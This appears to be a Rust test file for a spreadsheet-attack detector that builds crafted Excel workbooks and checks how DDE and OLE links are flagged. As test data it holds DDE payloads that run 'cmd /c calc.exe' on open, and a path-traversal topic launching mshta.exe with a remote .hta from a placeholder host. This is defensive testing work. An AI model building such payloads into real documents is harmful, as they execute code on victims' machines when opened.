//! The cases of §2.6 with the bytes of §2.3, and links of other kinds.

use super::*;

#[test]
fn case_1_as_excel_writes_it() {
    let report = analyze(&written().build());
    whole(&report);
    assert_eq!(triples(&report), [triple("cmd", "/c calc.exe", "A1")]);
    let finding = dde(&report)[0];
    assert_eq!(finding.used_by, ["Sheet1!B4"]);
    assert_eq!(
        (finding.kind, finding.trigger),
        (Kind::DdeAuto, Trigger::Open)
    );
    assert_eq!(finding.carrier, Carrier::Supbook);
    assert_eq!(finding.confidence, Confidence::Certain);
    assert_eq!(
        finding.location.path().last(),
        Some("xl/externalLinks/externalLink1.bin")
    );
    assert_eq!(report.document().format.as_str(), "xlsb");
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn case_2_an_ole_link_is_no_dde() {
    let link = link_part(2, "rId1", "Word.Document.8", &[("'", 0x0012)]);
    let target = "http://example.invalid/a.doc";
    let object = record(
        639,
        &join(&[
            &u32s(&[1, 1, 1025]),
            &1_u16.to_le_bytes(),
            &wide("Word.Document.8"),
            &formula(&name_x(0, 1)),
        ]),
    );
    let report = analyze(
        &Workbook::new()
            .link(link, &rels(&[("rId1", "oleObject", target, true)]))
            .after(&join(&[&record(638, b""), &object, &record(640, b"")]))
            .build(),
    );
    whole(&report);
    assert!(dde(&report).is_empty());
    let links: Vec<_> = report.findings().iter().collect();
    assert_eq!(links.len(), 1, "{links:#?}");
    assert_eq!(links[0].carrier, Carrier::OleLink);
    assert_eq!(links[0].target.as_deref(), Some(target));
    assert!(links[0].raw.contains("Word.Document.8"));
    assert_eq!(links[0].trigger, Trigger::Open);
    assert_eq!(links[0].used_by, ["Sheet1!OLE object"]);
}

#[test]
fn case_3_a_size_beyond_the_end() {
    let mut link = link_part(1, "cmd", "/c calc", &[("x", 2)]);
    link.extend(b"\x08\xff\xff\xff\x7f0123456789");
    let report = analyze(&Workbook::new().link(link, "").build());
    assert_eq!(triples(&report), [triple("cmd", "/c calc", "x")]);
    let gaps = report.gaps();
    assert!(
        !gaps.is_empty() && gaps.iter().all(|gap| gap.kind == GapKind::Damaged),
        "{gaps:#?}"
    );
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn case_4_traversal() {
    let topic = r"\..\..\..\Windows\System32\mshta.exe http://example.invalid/a.hta";
    let report = analyze(&Workbook::new().dde("MSEXCEL", topic, &[("A", 0)]).build());
    whole(&report);
    assert_eq!(triples(&report), [triple("MSEXCEL", topic, "A")]);
    let command = dde(&report)[0].command.as_ref().unwrap();
    assert_eq!(command.image.as_deref(), Some("mshta.exe"));
    assert!(techniques(dde(&report)[0]).contains(&"path-traversal"));
}

/// The containers of extensions and of alternatives are gone into.
#[test]
fn case_5_inside_an_extension() {
    let inner = link_part(1, "cmd", "/c calc", &[("x", 2)]);
    for (begin, end) in [(35, 36), (37, 38)] {
        let link = join(&[&record(begin, &u32s(&[0])), &inner, &record(end, b"")]);
        let report = analyze(&Workbook::new().link(link, "").build());
        whole(&report);
        assert_eq!(triples(&report), [triple("cmd", "/c calc", "x")]);
    }
}

/// §2.2: a link of an unknown kind is DDE if it can be.
#[test]
fn links_of_an_unknown_kind() {
    let report = analyze(
        &Workbook::new()
            .link(link_part(9, "cmd", "/c calc", &[]), "")
            .build(),
    );
    assert_eq!(dde(&report).len(), 1);
    assert_eq!(dde(&report)[0].confidence, Confidence::Low);
    let report = analyze(
        &Workbook::new()
            .link(link_part(9, "C:\\a.xls", "x", &[]), "")
            .build(),
    );
    assert!(dde(&report).is_empty());
    assert!(!report.complete());
}

/// §2.2: the index of a link counts the workbook itself and add-ins, too.
#[test]
fn numbers_of_links_go_by_their_order() {
    let mut workbook = Workbook::new()
        .dde("BLP", "M", &[("bid", 2), ("ask", 2)])
        .link(
            link_part(0, "rId1", "", &[]),
            &rels(&[("rId1", "externalLinkPath", "Book2.xlsx", true)]),
        )
        .cells(&join(&[&row(0), &formula_cell(27, &name_x(0, 2))]));
    let report = analyze(&workbook.build());
    whole(&report);
    let used: Vec<_> = dde(&report).iter().map(|f| f.used_by.clone()).collect();
    assert_eq!(used, [vec![], vec!["Sheet1!AB1".to_owned()]]);
    assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
    let book = report
        .findings()
        .iter()
        .find(|f| f.carrier == Carrier::ExternalWorkbook);
    assert_eq!(book.unwrap().target.as_deref(), Some("Book2.xlsx"));
    // A number that leads nowhere leaves the link unused.
    workbook.rows = join(&[&row(0), &formula_cell(0, &name_x(7, 1))]);
    assert!(
        dde(&analyze(&workbook.build()))
            .iter()
            .all(|f| f.used_by.is_empty())
    );
}
